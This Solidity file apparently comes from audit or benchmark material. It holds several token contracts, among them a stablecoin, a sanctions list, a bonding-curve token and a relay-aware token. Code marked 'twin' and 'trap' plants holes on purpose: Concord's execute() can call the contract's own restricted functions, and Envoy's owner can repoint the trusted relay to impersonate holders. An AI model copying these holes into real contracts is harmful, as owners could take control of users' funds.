// 0.8 runs=1 ir evm=shanghai
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

/// A note of an issuer: minters with allowances, a pause and a list, each a role of the Safe; payments by signature.
contract FiatNote {
    struct Roles {
        address masterMinter;
        address pauser;
        bool paused;
        address blocker;
    }
    string public constant name = "Quill Euro";
    string public constant symbol = "QEUR";
    uint8 public constant decimals = 6;
    bytes32 public constant TRANSFER_TYPE =
        keccak256("TransferWithAuthorization(address from,address to,uint256 value,uint256 validAfter,uint256 validBefore,bytes32 nonce)");
    bytes32 public constant CANCEL_TYPE = keccak256("CancelAuthorization(address authorizer,bytes32 nonce)");
    bytes32 public immutable DOMAIN_SEPARATOR;
    Roles public roles;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => uint256) public minterAllowance;
    mapping(address => bool) public isBlocked;
    mapping(address => mapping(bytes32 => bool)) public authorizationState;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event AuthorizationUsed(address indexed authorizer, bytes32 indexed nonce);
    event Blocked(address indexed who, bool to);
    event MinterConfigured(address indexed minter, uint256 allowance);

    constructor(address safe) {
        roles = Roles(safe, safe, false, safe);
        DOMAIN_SEPARATOR = keccak256(
            abi.encode(
                keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"),
                keccak256(bytes(name)), keccak256("1"), block.chainid, address(this)
            )
        );
        _mint(msg.sender, 20_000_000e6);
    }

    function configureMinter(address minter, uint256 value) external {
        require(msg.sender == roles.masterMinter, "master minter");
        minterAllowance[minter] = value;
        emit MinterConfigured(minter, value);
    }

    function mint(address to, uint256 value) external {
        minterAllowance[msg.sender] -= value;
        _mint(to, value);
    }

    function burn(uint256 value) external {
        balanceOf[msg.sender] -= value;
        totalSupply -= value;
        emit Transfer(msg.sender, address(0), value);
    }

    function setPaused(bool to) external {
        require(msg.sender == roles.pauser, "pauser");
        roles.paused = to;
    }

    function setBlocked(address who, bool to) external {
        require(msg.sender == roles.blocker, "blocker");
        isBlocked[who] = to;
        emit Blocked(who, to);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _send(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _send(from, to, value);
        return true;
    }

    function transferWithAuthorization(
        address from, address to, uint256 value, uint256 validAfter, uint256 validBefore, bytes32 nonce, uint8 v, bytes32 r, bytes32 s
    ) external {
        require(block.timestamp > validAfter && block.timestamp < validBefore, "time");
        _use(from, nonce, keccak256(abi.encode(TRANSFER_TYPE, from, to, value, validAfter, validBefore, nonce)), v, r, s);
        _send(from, to, value);
    }

    function cancelAuthorization(address from, bytes32 nonce, uint8 v, bytes32 r, bytes32 s) external {
        _use(from, nonce, keccak256(abi.encode(CANCEL_TYPE, from, nonce)), v, r, s);
    }

    function _use(address from, bytes32 nonce, bytes32 what, uint8 v, bytes32 r, bytes32 s) private {
        require(!authorizationState[from][nonce], "used");
        authorizationState[from][nonce] = true;
        address signer = ecrecover(keccak256(abi.encodePacked("\x19\x01", DOMAIN_SEPARATOR, what)), v, r, s);
        require(signer != address(0) && signer == from, "signature");
        emit AuthorizationUsed(from, nonce);
    }

    function _mint(address to, uint256 value) private {
        totalSupply += value;
        balanceOf[to] += value;
        emit Transfer(address(0), to, value);
    }

    function _send(address from, address to, uint256 value) private {
        require(!roles.paused, "paused");
        require(!isBlocked[from] && !isBlocked[to], "blocked");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Addresses under sanctions, kept by those who must sign together.
contract SanctionsList {
    address public immutable keeper;
    mapping(address => uint256) private since;

    event Listed(address indexed who);
    event Delisted(address indexed who);

    constructor(address keeper_) {
        keeper = keeper_;
    }

    function list(address[] calldata who) external {
        require(msg.sender == keeper, "keeper");
        for (uint256 i; i < who.length; i++) {
            since[who[i]] = block.timestamp;
            emit Listed(who[i]);
        }
    }

    function delist(address[] calldata who) external {
        require(msg.sender == keeper, "keeper");
        for (uint256 i; i < who.length; i++) {
            delete since[who[i]];
            emit Delisted(who[i]);
        }
    }

    function isSanctioned(address who) external view returns (bool) {
        return since[who] != 0;
    }
}

/// Asks a list whether somebody is under sanctions.
contract Customs is Base8 {
    SanctionsList public immutable sanctions;

    error Sanctioned(address who);

    constructor(SanctionsList sanctions_) Base8("Customs House", "CSTM", 55_000_000) {
        sanctions = sanctions_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (sanctions.isSanctioned(from)) revert Sanctioned(from);
        if (sanctions.isSanctioned(to)) revert Sanctioned(to);
        _move(from, to, value);
    }
}

/// The price rises in a straight line with the supply. Who gives tokens back gets what they cost there, less one part in a hundred
/// that stays for those who remain.
contract Incline {
    uint256 private constant SLOPE = 2.5e27;
    string public constant name = "Incline";
    string public constant symbol = "INCL";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function buy(uint256 least) external payable returns (uint256 value) {
        value = root(totalSupply * totalSupply + msg.value * SLOPE) - totalSupply;
        require(value > 0 && value >= least, "too little");
        totalSupply += value;
        balanceOf[msg.sender] += value;
        emit Transfer(address(0), msg.sender, value);
    }

    function sell(uint256 value, uint256 least) external returns (uint256 coins) {
        balanceOf[msg.sender] -= value;
        uint256 left = totalSupply - value;
        coins = ((totalSupply * totalSupply - left * left) * 99) / SLOPE / 100;
        require(coins >= least, "too little");
        totalSupply = left;
        emit Transfer(msg.sender, address(0), value);
        (bool ok, ) = msg.sender.call{value: coins}("");
        require(ok, "refused");
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _send(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return _send(from, to, value);
    }

    function _send(address from, address to, uint256 value) private returns (bool) {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }

    function root(uint256 x) private pure returns (uint256 y) {
        uint256 z = (x + 1) / 2;
        y = x;
        while (z < y) (y, z) = (z, (x / z + z) / 2);
    }
}

/// A company that keeps its treasury in its token. The founder carries out its payments in batches; founders trade among themselves
/// in the first phase, everybody in the second.
contract Concord is Base8 {
    struct Call {
        address target;
        uint256 value;
        bytes data;
    }
    uint8 public phase;
    uint16 public share = 250;
    mapping(address => bool) public founders;

    event PhaseEntered(uint8 phase);
    event Executed(address indexed target, uint256 value);

    modifier onlySelf() {
        require(msg.sender == address(this), "by execution");
        _;
    }

    constructor() Base8("Concord", "CNCD", 90_000_000) {
        founders[msg.sender] = true;
    }

    receive() external payable {}

    function open() external onlyOwner {
        require(phase == 0, "open");
        phase = 2;
        emit PhaseEntered(2);
    }

    function enter(uint8 to) external onlySelf {
        phase = to;
        emit PhaseEntered(to);
    }

    function setShare(uint16 to) external onlySelf {
        require(to <= 1000, "a tenth");
        share = to;
    }

    function execute(Call[] calldata calls) external onlyOwner {
        for (uint256 i; i < calls.length; i++) {
            // twin: require(calls[i].target != address(this), "others only");
            (bool ok, bytes memory out) = calls[i].target.call{value: calls[i].value}(calls[i].data);
            if (!ok) {
                assembly {
                    revert(add(out, 0x20), mload(out))
                }
            }
            emit Executed(calls[i].target, calls[i].value);
        }
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (phase < 2) require(founders[from] || founders[to], "founders first");
        _move(from, to, value);
    }
}

/// Carries out what somebody has signed, once.
contract Relay {
    bytes32 private immutable DOMAIN = keccak256(abi.encode("Relay", block.chainid, address(this)));
    mapping(address => uint256) public nonces;

    function carry(address from, address to, bytes calldata data, uint8 v, bytes32 r, bytes32 s) external returns (bytes memory) {
        bytes32 digest = keccak256(abi.encode(DOMAIN, from, to, keccak256(data), nonces[from]++));
        address signer = ecrecover(keccak256(abi.encodePacked("\x19Ethereum Signed Message:\n32", digest)), v, r, s);
        require(signer != address(0) && signer == from, "signature");
        (bool ok, bytes memory out) = to.call(abi.encodePacked(data, from));
        require(ok, "failed");
        return out;
    }
}

/// Its holders need no coin of the chain: a relay pays for them, and names them at the end of what it sends.
contract Envoy is Base8 {
    address public relay;

    event RelayChanged(address to);

    constructor(address relay_) Base8("Envoy", "ENVY", 110_000_000) {
        relay = relay_;
    }

    function setRelay(address to) external onlyOwner { // trap {
        relay = to;
        emit RelayChanged(to);
    } // trap }

    function sender() private view returns (address who) {
        if (msg.sender != relay || msg.data.length < 24) return msg.sender;
        assembly {
            who := shr(96, calldataload(sub(calldatasize(), 20)))
        }
    }

    function approve(address spender, uint256 value) public override returns (bool) {
        _approve(sender(), spender, value);
        return true;
    }

    function transfer(address to, uint256 value) public override returns (bool) {
        _transfer(sender(), to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        address spender = sender();
        uint256 allowed = _allowances[from][spender];
        if (allowed < value) revert Insufficient(allowed, value);
        _approve(from, spender, allowed - value);
        _transfer(from, to, value);
        return true;
    }
}
